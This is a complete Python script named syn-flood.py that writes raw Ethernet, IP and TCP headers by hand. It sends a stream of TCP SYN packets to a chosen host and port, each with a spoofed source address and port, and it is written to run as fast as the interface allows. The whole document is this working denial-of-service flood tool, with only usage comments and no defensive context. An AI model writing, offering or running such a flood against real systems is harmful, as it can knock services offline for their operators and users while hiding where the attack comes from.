# Sends SYNs out of an interface, each from another address that nobody has and another port.
# Usage: syn-flood.py INTERFACE DESTINATION_MAC DESTINATION PORT COUNT PREFIX...   (PREFIX: the first two octets of the sources, "10.0")
import socket
import struct
import sys

interface, mac, destination, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
prefixes = sys.argv[6:]


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


target = socket.inet_aton(destination)
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((interface, 0))
ethernet = bytes.fromhex(mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00"
options = b"\x02\x04\x05\xb4\x04\x02\x01\x01"
sent = 0
for i in range(count):
    # From x.x.1.0 on, clear of the addresses that are in use.
    n = 256 + i % 65000
    source = socket.inet_aton("%s.%d.%d" % (prefixes[i % len(prefixes)], n >> 8, n & 255))
    header = struct.pack("!BBHHHBBH", 0x45, 0, 48, i & 0xFFFF, 0, 64, 6, 0) + source + target
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    tcp = struct.pack("!HHIIBBHHH", 1024 + i % 60000, port, i * 4099, 0, 0x70, 2, 65535, 0, 0) + options
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    try:
        raw.send(ethernet + header + tcp)
        sent += 1
    except OSError:
        # No room: the flood is as fast as it gets.
        pass
print("sent", sent, flush=True)
